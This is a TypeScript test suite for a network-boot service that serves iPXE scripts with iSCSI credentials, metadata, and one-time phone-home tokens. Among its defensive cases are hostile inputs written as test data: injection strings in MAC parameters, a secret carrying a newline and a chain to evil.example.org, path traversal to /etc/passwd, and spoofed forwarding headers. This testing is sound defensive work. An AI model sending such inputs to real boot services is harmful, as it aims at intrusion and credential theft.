import { bootConfigCreate, bootConfigDelete, bootConfigShow, M2Error } from '@m2/contracts';
import { startPostgres, until } from '@m2/service-kit/testing';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { login, openBoot, type TestBoot } from '../testing/boot.js';

let boot: TestBoot;
beforeAll(async () => {
  boot = await openBoot(await startPostgres());
});
afterAll(() => boot?.close());
beforeEach(() => {
  boot.credentials.reply = async () => login;
});

const armed = async (more: object = {}) => {
  const config = boot.boot(more);
  await boot.tell(bootConfigCreate, config);
  return config;
};
const script = (mac: string, from?: string) => boot.http('GET', `/boot/ipxe?mac=${mac}`, from);
const metadata = (mac: string, from?: string) => boot.http('GET', `/boot/metadata?mac=${mac}`, from);
const phoneHomeOf = (text: string) => /^phone_home=(\S+)$/m.exec(text)![1] as string;
const show = ({ configId, project }: { configId: string; project: string }) =>
  boot.ask(bootConfigShow, { configId, project });
const types = async (entity: string) => (await boot.events(entity)).map(({ type }) => type);

describe('the boot of a nic', () => {
  it('goes from armed to served to booted, and its report is kept', async () => {
    const config = await armed();
    expect(await show(config)).toMatchObject({
      state: 'armed',
      mac: config.mac,
      scriptServedAt: null,
      bootedAt: null,
      report: null,
    });
    const served = await script(config.mac);
    expect([served.status, served.type]).toEqual([200, 'text/plain; charset=utf-8']);
    expect(served.text).toMatch(/^#!ipxe\n/);
    for (const part of [login.iqn, login.secret, login.user, '10.1.0.1', login.initiator, config.nodeName])
      expect(served.text).toContain(part);
    expect(await show(config)).toMatchObject({ state: 'script_served', bootedAt: null });
    const { text } = await metadata(config.mac);
    expect(text).toContain(`node=${config.nodeName}\n`);
    const home = await boot.http('POST', phoneHomeOf(text), undefined, { root: '/dev/sda1', boots: 1, unasked: 'x' });
    expect([home.status, home.text]).toEqual([200, 'welcome\n']);
    expect(await show(config)).toMatchObject({
      state: 'booted',
      report: { root: '/dev/sda1', boots: 1, address: '127.0.0.1' },
    });
    expect(await types(config.configId)).toEqual(['boot.config.served', 'boot.node.booted']);
    expect(boot.asked.at(-1)).toEqual({ exportId: config.exportId, project: config.project });
  });

  it('is asked for with the MAC in any form that firmware writes', async () => {
    const config = await armed();
    expect((await script(config.mac.toUpperCase().replaceAll(':', '-'))).text).toContain(login.secret);
  });

  it('is begun again by the node itself: its restart arms the phone-home anew', async () => {
    const config = await armed();
    for (let round = 1; round <= 2; round += 1) {
      await script(config.mac);
      expect(await show(config)).toMatchObject({ state: 'script_served', bootedAt: null });
      const { text } = await metadata(config.mac);
      expect((await boot.http('POST', phoneHomeOf(text), undefined, { boots: round })).status).toBe(200);
      expect(await show(config)).toMatchObject({ state: 'booted', report: { boots: round } });
    }
    expect(await types(config.configId)).toEqual([
      'boot.config.served',
      'boot.node.booted',
      'boot.config.served',
      'boot.node.booted',
    ]);
  });
});

describe('a stranger with another address', () => {
  it('gets neither script, nor metadata, nor a way to phone home, once the node was first; it is told of', async () => {
    const config = await armed();
    await script(config.mac, '127.0.0.1');
    const { text } = await metadata(config.mac, '127.0.0.1');
    const stolen = await script(config.mac, '127.0.0.2');
    expect(stolen.status).toBe(200); // firmware cannot read a status
    expect(stolen.text).not.toContain(login.secret);
    expect(stolen.text).toContain('no boot in progress');
    expect((await metadata(config.mac, '127.0.0.2')).status).toBe(404);
    expect((await boot.http('POST', phoneHomeOf(text), '127.0.0.2', {})).status).toBe(404);
    const refusal = (await boot.events(config.configId)).find(({ type }) => type === 'boot.config.refused');
    expect(refusal!.data).toMatchObject({ mac: config.mac, from: '127.0.0.2', provision: config.provision });
    expect((await boot.http('POST', phoneHomeOf(text), '127.0.0.1', {})).status).toBe(200);
  });

  it('is told of once a minute, however the clock is set meanwhile', async () => {
    const config = await armed();
    await script(config.mac, '127.0.0.1');
    await script(config.mac, '127.0.0.2');
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      // oxlint-disable-next-line no-restricted-properties -- it is set
      vi.setSystemTime(Date.now() + 3_600_000);
      await script(config.mac, '127.0.0.2');
    } finally {
      vi.useRealTimers();
    }
    expect((await types(config.configId)).filter((type) => type === 'boot.config.refused')).toHaveLength(1);
  });

  it('cannot claim another address in a header', async () => {
    const config = await armed();
    await script(config.mac, '127.0.0.1');
    const headers = { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1', forwarded: 'for=127.0.0.1' };
    const stolen = await boot.http('GET', `/boot/ipxe?mac=${config.mac}`, '127.0.0.2', undefined, headers);
    expect(stolen.text).not.toContain(login.secret);
  });

  it('asking at the same moment is second, or first, and never both', async () => {
    const config = await armed();
    const addresses = Array.from({ length: 8 }, (_, at) => `127.0.1.${at + 1}`);
    const answers = await Promise.all(addresses.map((address) => script(config.mac, address)));
    expect(answers.filter(({ text }) => text.includes(login.secret))).toHaveLength(1);
  });
});

describe('a nic without a boot', () => {
  it('is sent on to its next boot device, and told nothing', async () => {
    const { status, text } = await script('52:54:00:ff:ff:ff');
    expect(status).toBe(200);
    expect(text).toMatch(/^#!ipxe\n[^]*no boot in progress[^]*exit/);
    expect((await metadata('52:54:00:ff:ff:ff')).status).toBe(404);
  });

  it('has none any more when it was taken away', async () => {
    const config = await armed();
    await script(config.mac);
    const { text } = await metadata(config.mac);
    await boot.tell(bootConfigDelete, { configId: config.configId, project: config.project });
    expect((await script(config.mac)).text).not.toContain(login.secret);
    expect((await boot.http('POST', phoneHomeOf(text), undefined, {})).status).toBe(404);
    await expect(show(config)).rejects.toMatchObject({ code: 'boot.config_not_found' });
  });

  it('must be a nic', async () => {
    for (const mac of ['', 'x', '52:54:00:00:00', '%0a', "52:54:00:00:00:01'--", '${netX/mac}', '%00'])
      expect([mac, (await script(mac)).status]).toEqual([mac, 400]);
    expect((await boot.http('GET', '/boot/ipxe')).status).toBe(400);
    expect((await boot.http('GET', '/boot/ipxe?mac=52:54:00:00:00:01&mac=52:54:00:00:00:02')).status).toBe(400);
  });
});

describe('metadata', () => {
  it('is there between script and phone-home only', async () => {
    const config = await armed();
    expect((await metadata(config.mac)).status).toBe(404);
    await script(config.mac);
    const { text } = await metadata(config.mac);
    expect(text).not.toContain(login.secret);
    await boot.http('POST', phoneHomeOf(text), undefined, {});
    expect((await metadata(config.mac)).status).toBe(404);
  });

  it('gives a token that is good once, and void when a newer one was asked for', async () => {
    const config = await armed();
    await script(config.mac);
    const old = phoneHomeOf((await metadata(config.mac)).text);
    const now = phoneHomeOf((await metadata(config.mac)).text);
    expect((await boot.http('POST', old, undefined, {})).status).toBe(404);
    expect((await boot.http('POST', now, undefined, {})).status).toBe(200);
    expect((await boot.http('POST', now, undefined, {})).status).toBe(404);
    expect(await types(config.configId)).toEqual(['boot.config.served', 'boot.node.booted']);
    const rows = await boot.kit.database.query('SELECT to_jsonb(c) AS row FROM boot_configs c');
    expect(JSON.stringify(rows)).not.toContain(now.split('/').at(-1));
  });
});

describe('a report', () => {
  it('that is nonsense still says that the node is home', async () => {
    for (const report of [
      undefined,
      [],
      'text',
      { boots: 'many' },
      { marker: 'x'.repeat(5_000) },
      { marker: 'a\0b' },
    ]) {
      const config = await armed();
      await script(config.mac);
      const path = phoneHomeOf((await metadata(config.mac)).text);
      expect([report, (await boot.http('POST', path, undefined, report && JSON.stringify(report))).status]).toEqual([
        report,
        200,
      ]);
      expect(await show(config)).toMatchObject({ state: 'booted', report: { address: '127.0.0.1' } });
    }
  });

  it('that is too large is refused', async () => {
    const config = await armed();
    await script(config.mac);
    const path = phoneHomeOf((await metadata(config.mac)).text);
    expect((await boot.http('POST', path, undefined, { marker: 'x'.repeat(20_000) })).status).toBe(413);
    expect(await show(config)).toMatchObject({ state: 'script_served' });
  });
});

describe('while PostgreSQL is away', () => {
  it('the node is told to ask again', async () => {
    const config = await armed();
    await boot.postgres.halt();
    const { status, text } = await script(config.mac);
    await boot.postgres.start();
    expect([status, text.includes('/boot/ipxe?mac=${netX/mac}')]).toEqual([200, true]);
    expect(await until('the script is there', async () => (await script(config.mac)).text.includes(login.secret))).toBe(
      true,
    );
  });
});

describe('while the credentials cannot be had', () => {
  it('the node is told to ask again, and its boot stays open to it', async () => {
    const config = await armed();
    boot.credentials.reply = async () => {
      throw new M2Error('export.not_found', 'not yet');
    };
    const { status, text } = await script(config.mac);
    expect(status).toBe(200);
    expect(text).toContain('http://boot.example.org:7401/boot/ipxe?mac=${netX/mac}');
    expect(await show(config)).toMatchObject({ state: 'armed' });
    boot.credentials.reply = async () => login;
    expect((await script(config.mac)).text).toContain(login.secret);
  });

  it('a value that could change the script is not sent', async () => {
    const config = await armed();
    boot.credentials.reply = async () => ({ ...login, secret: 'x\nchain http://evil.example.org' });
    const { status, text } = await script(config.mac);
    expect([status, text.startsWith('#!ipxe\n')]).toEqual([200, true]);
    expect(text).not.toContain('evil');
  });
});

describe('a boot configuration', () => {
  it('is made once, and again under the same identifier is the same', async () => {
    const config = boot.boot();
    const first = await boot.tell(bootConfigCreate, config);
    expect(await boot.tell(bootConfigCreate, config)).toEqual(first);
  });

  it('of a nic that has one is refused, until that is gone', async () => {
    const config = await armed();
    const next = { ...config, configId: randomUUID(), provision: randomUUID() };
    await expect(boot.tell(bootConfigCreate, next)).rejects.toMatchObject({ code: 'boot.conflict' });
    await boot.tell(bootConfigDelete, { configId: next.configId, project: next.project });
    expect(await show(config)).toMatchObject({ state: 'armed' });
    await boot.tell(bootConfigDelete, { configId: config.configId, project: config.project });
    expect(await boot.tell(bootConfigCreate, next)).toMatchObject({ id: next.configId, state: 'armed' });
  });

  it('of two for one nic at the same moment is one', async () => {
    const config = boot.boot();
    const wanting = Array.from({ length: 6 }, () => ({ ...config, configId: randomUUID() }));
    const outcomes = await Promise.allSettled(wanting.map((one) => boot.tell(bootConfigCreate, one)));
    expect(outcomes.filter(({ status }) => status === 'fulfilled')).toHaveLength(1);
  });

  it('of another project is not there', async () => {
    const config = await armed();
    const foreign = { configId: config.configId, project: randomUUID() };
    await expect(show(foreign)).rejects.toMatchObject({ code: 'boot.config_not_found' });
    await boot.tell(bootConfigDelete, foreign);
    expect(await show(config)).toMatchObject({ state: 'armed' });
  });
});

describe('the door for nodes', () => {
  it('serves nothing else', async () => {
    for (const [method, path] of [
      ['GET', '/'],
      ['GET', '/boot'],
      ['GET', '/boot/../../etc/passwd'],
      ['GET', '/boot/..%2f..%2fetc/passwd'],
      ['POST', '/boot/ipxe?mac=52:54:00:00:00:01'],
      ['GET', '/boot/phone-home/x'],
      ['PUT', '/boot/metadata'],
    ] as const)
      expect([path, (await boot.http(method, path)).status]).toEqual([path, 404]);
  });
});
